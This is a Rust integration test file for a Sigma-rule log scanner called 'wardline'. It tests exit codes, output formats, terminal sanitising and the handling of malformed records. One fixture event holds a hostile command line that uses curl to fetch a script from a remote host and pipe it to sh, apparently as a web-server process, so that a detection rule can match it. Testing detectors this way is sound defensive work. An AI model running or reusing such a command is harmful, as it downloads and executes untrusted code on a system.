//! `wardline scan`, end to end: the built binary over logs and rules that a person can read in `data/`.
//!
//! Expected outputs are in `data/expected`; `UPDATE_EXPECTED=1 cargo test -p wardline --test scan` writes them anew.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

fn data() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data")
}

/// Runs the binary in `folder`.
fn scan_in(folder: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_wardline"))
        .arg("scan")
        .args(args)
        .current_dir(folder)
        .env_remove("CLICOLOR_FORCE")
        .output()
        .expect("the binary starts")
}

fn scan(args: &[&str]) -> Output {
    scan_in(&data(), args)
}

fn out(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).expect("UTF-8")
}

fn err(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).expect("UTF-8")
}

fn matches(output: &Output) -> Vec<Value> {
    out(output).lines().map(|line| serde_json::from_str(line).expect(line)).collect()
}

/// Compares with a file in `data/expected`.
fn expect(name: &str, actual: &str) {
    let path = data().join("expected").join(name);
    if std::env::var_os("UPDATE_EXPECTED").is_some() {
        fs::write(&path, actual).expect("the expected output can be written");
    }
    let expected = fs::read_to_string(&path).unwrap_or_default();
    assert!(expected == actual, "{} differs; got:\n{actual}", path.display());
}

const LOGS: [&str; 4] = ["audit.log", "sysmon-linux.syslog", "events.jsonl", "events.xml"];

fn with(rest: &[&'static str]) -> Vec<&'static str> {
    LOGS.iter().chain(rest).copied().collect()
}

#[test]
fn the_table_and_the_places_of_what_is_unreadable() {
    let output = scan(&with(&["--rules", "rules", "--quiet"]));
    assert_eq!(output.status.code(), Some(1), "something was unreadable");
    expect("table.txt", &out(&output));
    expect("unreadable.txt", &err(&output));
}

#[test]
fn the_summary_counts_levels_rules_and_techniques() {
    let output = scan(&with(&["--rules", "rules", "--verbose"]));
    let text = out(&output);
    let at = text.find("\nMatches by ").expect("a summary");
    // How long it took is the one thing that differs from run to run.
    let summary: Vec<&str> = text[at..].lines().filter(|l| !l.starts_with("Time ")).collect();
    expect("summary.txt", &(summary.join("\n") + "\n"));
}

#[test]
fn json_has_one_object_for_each_match() {
    let output = scan(&with(&["--rules", "rules", "--json", "--quiet"]));
    expect("matches.jsonl", &out(&output));
    for found in matches(&output) {
        let keys: Vec<&str> = found.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            ["rule_id", "rule_title", "level", "tags", "computer", "file", "record_id", "time", "event"]
        );
    }
    let output = scan(&with(&["--rules", "rules", "--json"]));
    assert_eq!(matches(&output).len(), 15, "standard output holds nothing else");
    assert!(err(&output).contains("\nMatches    15 by 11 rules in 4 files\n"), "{}", err(&output));
}

#[test]
fn hostile_log_text_does_not_reach_the_terminal() {
    for args in [&["--quiet"][..], &["--verbose"], &["--json"], &["--csv"], &["--timesketch"]] {
        let output = scan(&[&["events.jsonl", "--rules", "rules"], args].concat());
        let text = out(&output) + &err(&output);
        assert!(text.contains(r"\u{1") || text.contains(r"\u001b"), "the match is shown: {text}");
        assert!(
            !text.contains('\u{202e}')
                && !text.replace("\r\n", "\n").chars().any(|c| c.is_control() && c != '\n'),
            "{text:?}"
        );
    }
}

#[test]
fn level_drops_milder_rules() {
    let output = scan(&with(&["--rules", "rules", "--json", "--quiet", "--level", "high"]));
    let mut levels: Vec<_> =
        matches(&output).iter().map(|m| m["level"].as_str().unwrap().to_owned()).collect();
    levels.sort();
    assert_eq!(levels, ["critical", "critical", "high", "high", "high"]);
}

#[test]
fn exit_code_0_means_that_everything_was_read() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("a.jsonl"), "{\"EventID\":1}\n").unwrap();
    // No logs: passed over in a folder, whatever their names.
    fs::write(folder.path().join("notes.log"), "remember the milk").unwrap();
    fs::write(folder.path().join("photo.png"), b"\x89PNG").unwrap();
    fs::write(folder.path().join("empty.xml"), "").unwrap();
    let output = scan_in(folder.path(), &["."]);
    assert_eq!(output.status.code(), Some(0), "{}", err(&output));
    assert!(out(&output).contains("Files      2 read, 1 passed over (no logs)"), "{}", out(&output));
    assert!(out(&output).contains("Records    1 read\n"), "{}", out(&output));
    assert_eq!(err(&output), "");
}

#[test]
fn exit_code_1_names_the_file_that_could_not_be_read() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("notes.txt"), "remember the milk").unwrap();
    fs::write(folder.path().join("a.jsonl"), "{\"EventID\":1}\n").unwrap();
    let output = scan_in(folder.path(), &["notes.txt", "a.jsonl", "--quiet"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        err(&output)
            .starts_with("wardline scan: notes.txt: the file: not a log that can be read: expected EVTX,"),
        "{}",
        err(&output)
    );
    // What is named as an event log and is none is told in a folder, too: it may have been wiped.
    fs::create_dir(folder.path().join("logs")).unwrap();
    fs::write(folder.path().join("logs/Security.evtx"), [7; 5000]).unwrap();
    let output = scan_in(folder.path(), &["logs"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(err(&output).contains("logs/Security.evtx: the file: not a log"), "{}", err(&output));
    // A file that opens and then gives an error, for root too.
    if Path::new("/proc/self/mem").exists() {
        let output = scan_in(folder.path(), &["/proc/self/mem", "a.jsonl"]);
        assert_eq!(output.status.code(), Some(1));
        let text = err(&output);
        assert!(
            text.contains("/proc/self/mem: the file: reading its beginning failed: Input/output error"),
            "{text}"
        );
        assert!(out(&output).contains("Files      1 read, 1 unreadable"), "{}", out(&output));
    }
}

#[test]
fn exit_code_2_says_what_is_wrong_with_the_command() {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("none")).unwrap();
    fs::write(folder.path().join("a.jsonl"), "{}\n").unwrap();
    for (args, says) in [
        (&[][..], "required arguments were not provided"),
        (&["a.jsonl", "--no-such-flag"], "unexpected argument '--no-such-flag'"),
        (&["a.jsonl", "--level", "worst"], "expected one of informational, low, medium, high, critical"),
        (&["a.jsonl", "--log-source", "linux"], "expected PRODUCT/CATEGORY/SERVICE"),
        (&["missing.evtx"], "missing.evtx: cannot be scanned: No such file or directory"),
        (&["none"], "nothing to read: no file there is named like a log"),
        (
            &["a.jsonl", "--rules", "none"],
            "no rule to scan with: name files or folders of Sigma rules with --rules",
        ),
        (
            &["a.jsonl", "--rules", "missing"],
            "missing: no rules can be read there: No such file or directory",
        ),
        (&["a.jsonl", "--from", "2024-11-03", "--to", "2024-11-02"], "--from is later than --to"),
    ] {
        let output = scan_in(folder.path(), args);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {}", err(&output));
        assert!(err(&output).contains(says), "{args:?} says: {}", err(&output));
        assert_eq!(out(&output), "", "{args:?}");
    }
}

#[test]
fn a_rule_with_an_unknown_modifier_is_named_and_left_out() {
    let args = ["events.jsonl", "--rules", "rules", "--rules", "broken-rules", "--json"];
    let output = scan(&args);
    let text = err(&output);
    assert!(text.starts_with("wardline scan: 1 rule did not load and is left out:\n"), "{text}");
    assert!(text.contains("\n  broken-rules/unknown-modifier.yml:11:"), "the file and the line: {text}");
    assert!(text.contains("contians"), "what is wrong: {text}");
    assert_eq!(matches(&output).len(), 5, "the other rules work: {text}");
    // Alone it leaves nothing to scan with; also who wants quiet is told why.
    let alone = scan(&["events.jsonl", "--rules", "broken-rules", "--quiet"]);
    assert_eq!(alone.status.code(), Some(2));
    assert!(err(&alone).contains("contians"), "{}", err(&alone));
}

#[test]
fn a_file_that_several_paths_lead_to_is_read_once() {
    let output = scan(&["events.jsonl", "../data/events.jsonl", ".", "--rules", "rules", "--json"]);
    let once = scan(&[".", "--rules", "rules", "--json"]);
    assert!(!matches(&once).is_empty());
    assert_eq!(matches(&output).len(), matches(&once).len());
}

#[test]
fn records_of_unknown_source_are_what_the_person_says() {
    let folder = tempfile::tempdir().unwrap();
    let event = r#"{"Image":"/usr/bin/dash","CommandLine":"sh -c whoami; curl http://198.51.100.7/x | sh",
        "CurrentDirectory":"/var/www/html","ProcessId":2207,"User":"33"}"#;
    fs::write(folder.path().join("a.json"), event).unwrap();
    let rules = data().join("rules");
    let args = ["a.json", "--rules", rules.to_str().unwrap(), "--json", "--quiet"];
    assert_eq!(matches(&scan_in(folder.path(), &args)).len(), 0);
    let told = scan_in(folder.path(), &[&args[..], &["--log-source", "linux/process_creation/"]].concat());
    assert_eq!(matches(&told).len(), 1);
}

#[test]
fn oversized_deep_and_foreign_records_are_skipped_and_the_rest_is_read() {
    let folder = tempfile::tempdir().unwrap();
    let good = r#"{"EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational"}"#;
    let mut log = format!("{good}\n{{\"x\":\"{}\"}}\n{good}\n", "x".repeat(5 * 1024 * 1024)).into_bytes();
    log.extend_from_slice(
        format!("{}{}\n{good}\n", "{\"a\":".repeat(70), "1".to_owned() + &"}".repeat(70)).as_bytes(),
    );
    log.extend_from_slice(b"{\"a\":\"\xff\xfe\"}\n");
    log.extend_from_slice(format!("{}\n{good}\n", "[".repeat(100_000)).as_bytes());
    fs::write(folder.path().join("hostile.jsonl"), log).unwrap();
    let utf16: Vec<u8> = [0xFEFF].into_iter().chain(good.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    fs::write(folder.path().join("utf16.json"), utf16).unwrap();
    let rules = data().join("rules/sysmon-seen.yml");
    let args = ["hostile.jsonl", "utf16.json", "--json", "-v", "--rules", rules.to_str().unwrap()];
    let output = scan_in(folder.path(), &args);
    assert_eq!(matches(&output).len(), 5, "{}", err(&output));
    assert_eq!(output.status.code(), Some(1));
    for line in [
        "hostile.jsonl: line 2: longer than 4 MiB, skipped\n",
        "hostile.jsonl: line 4: nested deeper than 64 levels, skipped\n",
        "hostile.jsonl: line 6: not UTF-8 text: byte 6 of the record is not part of a character\n",
        "hostile.jsonl: line 7: nested deeper than 64 levels, skipped\n",
    ] {
        assert!(err(&output).contains(line), "{line} in {}", err(&output));
    }
}

#[test]
fn results_come_in_the_order_of_the_files_whoever_is_ready_first() {
    let folder = tempfile::tempdir().unwrap();
    let event = r#"{"EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational"}"#;
    let mut expected = Vec::new();
    for n in 0..40 {
        let name = format!("{n:02}.jsonl");
        // The first files are the longest, so that later ones are ready before them.
        let lines = if n % 2 == 0 { 800 - n * 19 } else { 1 };
        fs::write(folder.path().join(&name), format!("{event}\n").repeat(lines)).unwrap();
        expected.extend((1..=lines).map(|line| (format!("./{name}"), line as u64)));
    }
    let rules = data().join("rules/sysmon-seen.yml");
    let output = scan_in(folder.path(), &[".", "--json", "--quiet", "--rules", rules.to_str().unwrap()]);
    let found: Vec<_> = matches(&output)
        .iter()
        .map(|m| (m["file"].as_str().unwrap().to_owned(), m["record_id"].as_u64().unwrap()))
        .collect();
    assert!(found == expected);
}
